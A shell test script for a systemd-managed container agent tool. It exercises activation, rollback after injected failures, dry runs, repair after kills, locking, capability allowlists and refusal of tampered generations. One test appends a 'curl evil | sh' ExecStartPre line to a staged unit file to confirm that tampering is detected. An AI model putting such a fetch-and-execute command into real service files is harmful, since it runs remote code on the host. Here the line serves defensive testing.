#!/bin/sh
# The commands that change the host, on systemd with stand-ins that keep
# what is enabled and active and record every argv: activate refused by a
# failed preflight (nothing installed), going on only with
# --enable-despite-preflight (recorded), --dry-run changing nothing, a
# failing step rolled back (exit 3), over a running agent a new generation
# that fails rolled back to the running one (still enabled and running) and
# one that succeeds put in service (restarted), stop/start/restart,
# uninstall twice, and what is refused before anything is done (--root,
# nothing staged, the agent locked, a tampered `current`).
. "$SOS_SRCDIR/tests/lib.sh"
case $(cd "$SOS_BUILDDIR" && pwd -P) in
/tmp/* | /var/tmp/*) LOGS=/var/log/sourceos-test.$$ ;;
*) LOGS=$(cd "$SOS_BUILDDIR" && pwd -P)/tests/lifecycle-logs.$$ ;;
esac
mkdir -p -m 755 "$LOGS" 2>/dev/null || skip_all "cannot make a log directory outside /tmp ($LOGS)"
trap 'rm -rf "$LOGS"; _cleanup' EXIT
AGENT="$SOS_BUILDDIR/sourceos-agent"
BIN="$TMP/bin"
D="$BIN/data"
CFG="$TMP/cfg"
mkdir -p "$D" "$CFG/agents.d" "$HOME/.config/containers" "$HOME/docker"
cp -R "$SOS_SRCDIR/checks.d" "$CFG/checks.d"
export XDG_STATE_HOME="$TMP/state"
STATE="$XDG_STATE_HOME/sourceos/agents/web"
UNIT="$HOME/.config/systemd/user/sourceos-agent@web.service"
printf '{"auths":{}}' > "$HOME/.config/containers/sourceos-empty-auth.json"
chmod 600 "$HOME/.config/containers/sourceos-empty-auth.json"
cat > "$CFG/agents.d/web.yaml" <<YAML
name: web
image: localhost/web@sha256:0123
backend: systemd
env: [DOCKER_CONFIG=$HOME/docker]
logs: {app: $LOGS/web.log, stdout: $LOGS/web.out.log, stderr: $LOGS/web.err.log}
YAML
chmod -R go-w "$CFG"
# systemctl keeps $D/enabled, $D/loaded (web's unit as the last
# daemon-reload read it), $D/active (the loaded unit it was started with)
# and $D/invocation (a number per start); $D/fail-VERB makes VERB fail:
# always when empty, else only while the loaded unit holds its text (a
# failed restart leaves the unit stopped).
cat > "$BIN/systemctl" <<'SH'
#!/bin/sh
d="${0%/*}/data"
u="$HOME/.config/systemd/user/sourceos-agent@web.service"
echo "systemctl $*" >> "$d/calls"
[ "$1" = --user ] && shift
case $1 in
show) case "$*" in
    *UnitFileState*)
        [ -f "$d/enabled" ] && echo UnitFileState=enabled || echo UnitFileState=disabled
        if [ -f "$d/active" ]; then echo ActiveState=active; echo "InvocationID=i$(cat "$d/invocation")"
        else echo ActiveState=inactive; echo InvocationID=; fi ;;
    *) echo "Version=252" ;;
    esac; exit 0 ;;
is-enabled) [ -f "$d/enabled" ] && { echo enabled; exit 0; }; echo disabled; exit 1 ;;
esac
if [ -f "$d/fail-$1" ] && { [ ! -s "$d/fail-$1" ] || grep -qF -f "$d/fail-$1" "$d/loaded" 2>/dev/null; }; then
    [ "$1" = restart ] && rm -f "$d/active"
    echo "Failed to $1 unit: injected" >&2; exit 1
fi
next() { echo $(( $(cat "$d/invocation" 2>/dev/null || echo 0) + 1 )) > "$d/invocation"; }
case $1 in
daemon-reload) if [ -f "$u" ]; then cp "$u" "$d/loaded"; else rm -f "$d/loaded"; fi ;;
enable) : > "$d/enabled" ;; disable) rm -f "$d/enabled" ;;
start) [ -f "$d/active" ] || { cp "$d/loaded" "$d/active" 2>/dev/null || : > "$d/active"; next; } ;;
restart) cp "$d/loaded" "$d/active" 2>/dev/null || : > "$d/active"; next ;;
stop) rm -f "$d/active" ;;
esac
exit 0
SH
cat > "$BIN/podman" <<'SH'
#!/bin/sh
d="${0%/*}/data"
echo "podman $*" >> "$d/calls"
case "$*" in
--version) echo "podman version 4.9.3" ;;
"machine list"*) echo "[]" ;;
"image inspect"*) [ -f "$d/no-image" ] && { echo "Error: localhost/web: image not known" >&2; exit 125; }
    echo '[{"Id":"abc","Digest":"sha256:0123","RepoDigests":["localhost/web@sha256:0123"]}]' ;;
"container inspect"*) echo "Error: no such container" >&2; exit 125 ;;
*) echo "unexpected: podman $*" >&2; exit 64 ;;
esac
SH
chmod +x "$BIN/systemctl" "$BIN/podman"
lc() { PATH="$BIN:/usr/bin:/bin" "$AGENT" "$@" --plugin-dir "$BUILD_PLUGINS" --config-dir "$CFG"; }
mutating() { grep -E '^systemctl (--user )?(daemon-reload|enable|disable|start|stop|restart|reset-failed)' "$D/calls"; }
q() { printf '%s' "$out" | jget "$1"; }

# ---- a failed preflight refuses activate: staged, nothing installed or enabled
: > "$D/no-image"
out=$(lc activate web 2>&1); rc=$?
is "$rc" 2 "activate with a failed preflight: exit 2 (refused)"
like "$out" "web preflight: failed" "the preflight is printed"
like "$out" "- image: image localhost/web@sha256:0123 is not in local storage" "with the failing step"
like "$out" "nothing was installed or enabled; fix what it says, or go on with --enable-despite-preflight" "and how to go on"
[ ! -e "$UNIT" ]; ok $? "no unit file was installed"
is "$(mutating)" "" "no systemctl verb that changes anything was run"
[ ! -e "$STATE/state.json" ]; ok $? "no state.json: not installed"
is "$(ls "$STATE/generations")" 1 "the generation is staged"

# ---- --enable-despite-preflight: goes on, says so, records it (one JSON document)
out=$(lc activate web --enable-despite-preflight --json 2> "$TMP/despite.err"); rc=$?
is "$rc" 0 "activate --enable-despite-preflight with a failed preflight: exit 0"
is "$(q '[d["lifecycle"]["preflight"], d["lifecycle"]["despite_preflight"]]')" '["failed", true]' "--json: one document, preflight failed, went on despite it"
like "$(cat "$TMP/despite.err")" "goes on although the preflight failed \(--enable-despite-preflight, recorded in state.json\)" "the warning on stderr"
is "$(jget 'd["despite_preflight"]' < "$STATE/state.json")" true "state.json records despite_preflight"
lc uninstall web > /dev/null 2>&1
: > "$D/no-image"

# ---- --dry-run: what it would do, nothing done
rm -f "$D/no-image"; : > "$D/calls"
out=$(lc activate web --dry-run); rc=$?
is "$rc" 0 "activate --dry-run: exit 0"
like "$out" "^web activate: planned \\(dry run: nothing changed\\)" "says nothing changed"
like "$out" "would write $UNIT \\(mode 0644" "the unit file it would write"
like "$out" "would run systemctl --user enable sourceos-agent@web.service" "the commands it would run"
[ ! -e "$UNIT" ]; ok $? "--dry-run wrote no unit"
is "$(mutating)" "" "--dry-run ran no changing verb"
[ ! -e "$STATE/journal" ] && [ ! -e "$STATE/state.json" ]; ok $? "--dry-run left no journal and no state.json"

# ---- activate: every step, in order, and the state
: > "$D/calls"
out=$(lc activate web --json); rc=$?
is "$rc" 0 "activate: exit 0"
is "$(q 'd["lifecycle"]["outcome"]')" done "outcome done"
is "$(q '[c["id"] for c in d["checks"]]')" '["activate.prior", "activate.install-unit", "activate.daemon-reload", "activate.enable", "activate.start"]' "prior, install-unit, daemon-reload, enable, start"
is "$(q '[d["checks"][0]["facts"][k] for k in ("prior.enabled", "prior.active", "prior.unit")]')" '["false", "false", "absent"]' "prior recorded the state before: not enabled, not running, no unit file"
is "$(mutating | tr '\n' '|')" "systemctl --user daemon-reload|systemctl --user enable sourceos-agent@web.service|systemctl --user reset-failed sourceos-agent@web.service|systemctl --user start sourceos-agent@web.service|" "systemctl asked in that order"
[ -f "$UNIT" ] && [ -f "$D/enabled" ] && [ -f "$D/active" ]; ok $? "installed, enabled, running"
is "$(stat -c %a "$UNIT")" 644 "the unit file is 0644"
cmp -s "$UNIT" "$STATE/current/sourceos-agent@web.service"; ok $? "it is the current generation's unit"
is "$(jget 'd["state"] + " " + str(d["generation"])' < "$STATE/state.json")" "enabled $(readlink "$STATE/current" | sed 's,generations/,,')" "state.json: enabled, the current generation"
[ ! -e "$STATE/journal" ]; ok $? "the journal is gone: the transaction ended"
printf '%s' "$out" > "$TMP/activate.json"
"$PYTHON" "$SOS_SRCDIR/tests/validate-json.py" "$SOS_SRCDIR/schemas/report.schema.json" "$TMP/activate.json" >&2
ok $? "--json is valid against report.schema.json"

# ---- activate again: the generation in place is the declaration's, none is made
before=$(ls "$STATE/generations" | wc -l)
lc activate web > /dev/null 2>&1; is "$?" 0 "activate again: exit 0"
is "$(ls "$STATE/generations" | wc -l)" "$before" "the declaration unchanged: no new generation"

# ---- over a running agent, a new generation: rolled back to the running one, or put in service
# The declaration changes (a new env): activate stages a generation whose
# unit runs its own wrapper.
cp "$CFG/agents.d/web.yaml" "$TMP/web.yaml"
sed -i 's|^env: \[|env: [GEN=2, |' "$CFG/agents.d/web.yaml"
gen1=$(readlink "$STATE/current")
cp "$UNIT" "$TMP/gen1.service"
next="generations/$(($(ls "$STATE/generations" | sort -n | tail -1) + 1))/wrapper"
printf '%s\n' "$next" > "$D/fail-start"; cp "$D/fail-start" "$D/fail-restart"
before=$(cat "$D/invocation"); : > "$D/calls"
out=$(lc activate web 2>&1); rc=$?
is "$rc" 3 "over a running agent, a new generation whose start fails: exit 3 (failed and rolled back)"
like "$out" "- failed: start \\(the steps before it were undone\\)" "names the failed step"
cmp -s "$UNIT" "$TMP/gen1.service"; ok $? "the running generation's unit file is back"
[ -f "$D/enabled" ]; ok $? "it is still enabled (enable's undo did not disable it)"
cmp -s "$D/active" "$TMP/gen1.service"; ok $? "and running its own definition again"
is "$(mutating | grep -v reset-failed | tr '\n' '|')" "systemctl --user daemon-reload|systemctl --user enable sourceos-agent@web.service|systemctl --user restart sourceos-agent@web.service|systemctl --user daemon-reload|systemctl --user start sourceos-agent@web.service|" \
   "restart of the new one failed; no disable, no stop: reloaded and started again"
is "$(readlink "$STATE/current")" "$gen1" "the previous generation is current again"
[ ! -e "$STATE/journal" ]; ok $? "no journal left"
rm -f "$D/fail-start" "$D/fail-restart"
# killed after start (the new one running), then repaired: the running one back
out=$(SOURCEOS_TEST_KILL_AFTER=start lc activate web 2>&1); rc=$?
is "$rc" 137 "over a running agent, activate killed right after start"
[ -n "$(cat "$D/active")" ] && ! cmp -s "$D/active" "$TMP/gen1.service"; ok $? "the kill left the new generation running"
out=$(lc repair web 2>&1); rc=$?
is "$rc" 0 "repair after the kill: exit 0"
like "$out" "- recovered: an interrupted activate was rolled back first" "it rolled the activate back"
cmp -s "$UNIT" "$TMP/gen1.service" && [ -f "$D/enabled" ] && cmp -s "$D/active" "$TMP/gen1.service"
ok $? "the previous generation is installed, enabled and running again"
is "$(readlink "$STATE/current")" "$gen1" "and current (repair did not install the one that was rolled back)"
# and succeeding: the new generation is what runs
before=$(cat "$D/invocation"); : > "$D/calls"
out=$(lc activate web --json); rc=$?
is "$rc" 0 "over a running agent, a new generation: exit 0"
[ "$(readlink "$STATE/current")" != "$gen1" ]; ok $? "a new generation is current"
cmp -s "$UNIT" "$STATE/current/sourceos-agent@web.service"; ok $? "its unit is installed"
cmp -s "$D/active" "$UNIT"; ok $? "and it is what runs: restarted (start would have left the old one running)"
is "$(cat "$D/invocation")" "$((before + 1))" "started once"
is "$(q '[c["changes"][-1]["argv"][-2:] for c in d["checks"] if c["id"] == "activate.start"][0]')" '["restart", "sourceos-agent@web.service"]' "the report says restart"
before=$(cat "$D/invocation")
lc activate web > /dev/null 2>&1; is "$?" 0 "activate again, the declaration unchanged: exit 0"
is "$(cat "$D/invocation")" "$before" "nothing restarted"
cp "$TMP/web.yaml" "$CFG/agents.d/web.yaml"

# ---- a failing step: the ones before it undone, exit 3
"$AGENT" uninstall web --plugin-dir "$BUILD_PLUGINS" --config-dir "$CFG" > /dev/null 2>&1
PATH="$BIN:/usr/bin:/bin" "$AGENT" uninstall web --plugin-dir "$BUILD_PLUGINS" --config-dir "$CFG" > /dev/null 2>&1
: > "$D/fail-start"; : > "$D/calls"
out=$(lc activate web 2>&1); rc=$?
is "$rc" 3 "start fails: exit 3 (failed and rolled back)"
like "$out" "web activate: failed and rolled back" "says so"
like "$out" "- failed: start \\(the steps before it were undone\\)" "names the failed step"
like "$out" "Failed to start unit: injected" "with what systemctl said"
[ ! -e "$UNIT" ] && [ ! -e "$D/enabled" ] && [ ! -e "$D/active" ]; ok $? "nothing is left installed, enabled or running"
is "$(mutating | tr '\n' '|')" "systemctl --user daemon-reload|systemctl --user enable sourceos-agent@web.service|systemctl --user reset-failed sourceos-agent@web.service|systemctl --user start sourceos-agent@web.service|systemctl --user disable sourceos-agent@web.service|systemctl --user daemon-reload|" \
   "enable undone by disable, then daemon-reload, newest first"
[ ! -e "$STATE/state.json" ]; ok $? "state.json still says not installed"
rm -f "$D/fail-start"

# ---- stop, start, restart, uninstall (twice)
lc activate web > /dev/null 2>&1
: > "$D/calls"
lc stop web > /dev/null; is "$?|$(mutating)" "0|systemctl --user stop sourceos-agent@web.service" "stop"
[ ! -e "$D/active" ]; ok $? "stopped"
: > "$D/calls"
lc restart web > /dev/null; is "$?|$(mutating | tr '\n' '|')" "0|systemctl --user stop sourceos-agent@web.service|systemctl --user reset-failed sourceos-agent@web.service|systemctl --user start sourceos-agent@web.service|" "restart: stop, then start"
: > "$D/calls"
lc uninstall web > /dev/null; rc=$?
is "$rc|$(mutating | tr '\n' '|')" "0|systemctl --user stop sourceos-agent@web.service|systemctl --user disable sourceos-agent@web.service|systemctl --user daemon-reload|" "uninstall: stop, disable, daemon-reload"
[ ! -e "$UNIT" ] && [ ! -e "$STATE/state.json" ]; ok $? "no unit file, no state.json"
lc uninstall web > /dev/null; is "$?" 0 "uninstall again: fine"

# ---- repair: killed after each step, then repaired; a deleted unit put back; a trip cleared
# invariant NAME: never enabled or running without the unit file and the
# wrapper it runs; an installed unit restarts only under a start limit, and
# its wrapper keeps the restart budget.
invariant() {
    _why=
    _exec=$(sed -n 's/^ExecStart="\{0,1\}\([^"]*\)"\{0,1\}$/\1/p' "$UNIT" 2>/dev/null)
    if [ -f "$D/enabled" ] || [ -f "$D/active" ]; then
        [ -f "$UNIT" ] || _why="$_why enabled or running without its unit file;"
        [ -z "$_exec" ] || [ -f "$_exec" ] || _why="$_why enabled or running, its wrapper $_exec gone;"
    fi
    if [ -f "$UNIT" ]; then
        [ -f "$_exec" ] || _why="$_why the unit's wrapper $_exec is gone;"
        grep -q '^Restart=on-failure' "$UNIT" && ! grep -q '^StartLimitBurst=[1-9]' "$UNIT" &&
            _why="$_why Restart=on-failure without a start limit;"
        [ ! -f "$_exec" ] || grep -q budget_file "$_exec" || _why="$_why the wrapper keeps no restart budget;"
    fi
    is "$_why" "" "$1: the invariant holds"
}
for step in prior install-unit daemon-reload enable start; do
    lc uninstall web > /dev/null 2>&1
    : > "$D/calls"
    SOURCEOS_TEST_KILL_AFTER=$step lc activate web > /dev/null 2>&1; rc=$?
    is "$rc" 137 "activate killed (SIGKILL) right after $step"
    like "$(cat "$STATE/journal")" "\"step\":\"$step\",\"state\":\"intent\"" "the journal has $step in flight"
    invariant "killed after $step"
    out=$(lc repair web); rc=$?
    is "$rc" 0 "repair after a kill at $step: exit 0"
    like "$out" "- recovered: an interrupted activate was rolled back first" "says it rolled the activate back"
    [ ! -e "$UNIT" ] && [ ! -e "$D/enabled" ] && [ ! -e "$D/active" ] && [ ! -e "$STATE/journal" ]
    ok $? "after a kill at $step and repair: nothing installed, enabled or running, no journal"
    invariant "killed after $step, then repaired"
    SOURCEOS_TEST_KILL_AFTER=$step lc activate web > /dev/null 2>&1
    lc activate web > /dev/null 2>&1; rc=$?
    is "$rc|$([ -f "$D/enabled" ] && [ -f "$D/active" ] && echo up)" "0|up" "after a kill at $step, the next activate rolls back and activates"
    invariant "killed after $step, then activated"
done
# a dry run of repair plans the rollback and keeps the journal; any command
# (not only repair) rolls back first, with every step a journal can name
lc uninstall web > /dev/null 2>&1
SOURCEOS_TEST_KILL_AFTER=start lc activate web > /dev/null 2>&1
out=$(lc repair web --dry-run); rc=$?
is "$rc" 0 "repair --dry-run after a kill: exit 0"
like "$out" "- recovered: an interrupted activate would be rolled back first" "says what it would roll back"
[ -e "$STATE/journal" ] && [ -f "$D/active" ]; ok $? "and rolls nothing back: the journal and the running agent stay"
out=$(lc stop web); rc=$?
is "$rc" 0 "stop after a killed activate: exit 0"
like "$out" "- recovered: an interrupted activate was rolled back first" "stop rolled the activate back first (its start, enable, install undone)"
[ ! -e "$STATE/journal" ] && [ ! -e "$UNIT" ] && [ ! -e "$D/enabled" ]; ok $? "nothing of it is left"
lc activate web > /dev/null 2>&1
out=$(lc repair web); rc=$?
is "$rc" 0 "repair of a healthy agent: exit 0"
like "$out" "- nothing to repair" "says there is nothing to repair"
rm "$UNIT"; rm -f "$D/enabled" "$D/active"; : > "$D/calls"
out=$(lc repair web); rc=$?
is "$rc" 0 "repair of a deleted unit: exit 0"
cmp -s "$UNIT" "$STATE/current/sourceos-agent@web.service"; ok $? "the unit is back, the current generation's"
[ -f "$D/enabled" ] && [ -f "$D/active" ]; ok $? "and, as state.json says enabled, enabled and started again"
echo "tripped $(($(date +%s) + 5))" > "$STATE/tripped"; rm -f "$D/active"
out=$(lc repair web); rc=$?
is "$rc" 0 "repair of a tripped agent: exit 0"
[ ! -e "$STATE/tripped" ] && [ -f "$D/active" ]; ok $? "the trip cleared (the preflight passed) and the agent started"
lc uninstall web > /dev/null 2>&1
[ ! -e "$STATE" ]; ok $? "uninstall removed the state directory (generations, state.json)"
out=$(lc uninstall web 2>&1); rc=$?
is "$rc" 0 "uninstall with nothing staged or installed: exit 0"
like "$out" "nothing to uninstall: no state directory and no service definition" "says there was nothing"
mkdir -p "$(dirname "$UNIT")"; printf '[Service]\nExecStart=/bin/true\n' > "$UNIT"
out=$(lc uninstall web 2>&1); rc=$?
is "$rc" 2 "a unit installed without our state directory: uninstall refuses (exit 2)"
like "$out" "there is no state directory .* that says this tool installed it" "says why"
[ -f "$UNIT" ]; ok $? "and leaves the unit alone"
rm -f "$UNIT"

# ---- refused before anything is done
"$AGENT" stage web --plugin-dir "$BUILD_PLUGINS" --config-dir "$CFG" > /dev/null 2>&1
lc install web --root / > /dev/null 2>&1; is "$?" 0 "--root / is this machine: installed"
[ -f "$UNIT" ]; ok $? "the unit is in place"
lc uninstall web > /dev/null 2>&1; is "$?" 0 "and uninstalled"
"$AGENT" stage web --plugin-dir "$BUILD_PLUGINS" --config-dir "$CFG" > /dev/null 2>&1
mkdir -p "$TMP/tree"
out=$(lc install web --root "$TMP/tree" 2>&1); rc=$?
is "$rc" 2 "--root of another tree: exit 2"
like "$out" "the lifecycle changes this machine only" "says why"
cat > "$CFG/agents.d/fresh.yaml" <<YAML
name: fresh
image: localhost/fresh@sha256:0123
backend: systemd
env: [DOCKER_CONFIG=$HOME/docker]
logs: {app: $LOGS/f.log, stdout: $LOGS/f.o.log, stderr: $LOGS/f.e.log}
YAML
# a dry run of a fresh agent plans the generation a real run would make
mkdir -p "$TMP/dry-tmp"
out=$(TMPDIR="$TMP/dry-tmp" lc activate fresh --dry-run 2>&1); rc=$?
is "$rc" 0 "activate --dry-run of an agent never staged: exit 0"
like "$out" "would write $HOME/.config/systemd/user/sourceos-agent@fresh.service \\(mode 0644" "plans the unit it would install"
[ ! -e "$XDG_STATE_HOME/sourceos/agents/fresh" ]; ok $? "no state directory was made for it"
is "$(ls -A "$TMP/dry-tmp")" "" "and its scratch state directory was removed"
out=$(lc start fresh 2>&1); rc=$?
is "$rc|$out" "2|sourceos-agent: start: nothing is staged: run 'sourceos-agent stage NAME' (or 'sourceos-agent activate NAME') first; nothing was changed" "nothing staged: refused"
lc activate web > /dev/null 2>&1
: > "$D/calls"
( flock -x 9; touch "$TMP/locked"; sleep 5 ) 9> "$STATE/lock" &
while [ ! -e "$TMP/locked" ]; do sleep 0.05; done
out=$(lc stop web 2>&1); rc=$?
is "$rc" 3 "the agent locked by another run: exit 3"
like "$out" "another sourceos-agent is changing this agent" "says so"
is "$(mutating)" "" "and changes nothing"
kill %1 2>/dev/null; wait
# a generation changed after it was staged is not installed
lc activate web > /dev/null 2>&1
lc uninstall web > /dev/null 2>&1
"$AGENT" stage web --plugin-dir "$BUILD_PLUGINS" --config-dir "$CFG" > /dev/null 2>&1
gen=$(readlink "$STATE/current")
chmod u+w "$STATE/$gen/sourceos-agent@web.service"
printf 'ExecStartPre=/bin/sh -c "curl evil | sh"\n' >> "$STATE/$gen/sourceos-agent@web.service"
: > "$D/calls"
out=$(lc install web 2>&1); rc=$?
is "$rc" 3 "a tampered generation: exit 3"
like "$out" "sourceos-agent@web.service is not what the declaration generates: the generation was changed after it was staged" "says which file and why"
[ ! -e "$UNIT" ]; ok $? "nothing installed from it"
is "$(mutating)" "" "and nothing asked of systemd"
# a capability the allowlist does not grant refuses the whole install
cat > "$CFG/agents.d/priv.yaml" <<YAML
name: priv
image: localhost/priv@sha256:0123
scope: system
account: nobody
capabilities: [cap_sys_admin]
logs: {app: $LOGS/p.log, stdout: $LOGS/p.o.log, stderr: $LOGS/p.e.log}
YAML
out=$(lc activate priv 2>&1); rc=$?
is "$rc" 2 "cap_sys_admin not in capabilities.allow: exit 2"
like "$out" "capability CAP_SYS_ADMIN is not in $CFG/capabilities.allow: refused, nothing is staged or installed" "names the capability and the allowlist"
[ ! -e /etc/systemd/system/sourceos-agent@priv.service ] && [ ! -e /var/lib/sourceos/agents/priv ]; ok $? "nothing staged or installed"
rm "$CFG/agents.d/priv.yaml"
rm "$STATE/current"; ln -s /etc "$STATE/current"
out=$(lc install web --enable-despite-preflight 2>&1); rc=$?
is "$rc" 3 "a tampered current: exit 3"
[ ! -e "$UNIT" ]; ok $? "nothing installed from it"
out=$(lc doctor web --dry-run 2>&1); rc=$?
is "$rc" 64 "--dry-run on doctor: a usage error"
done_testing
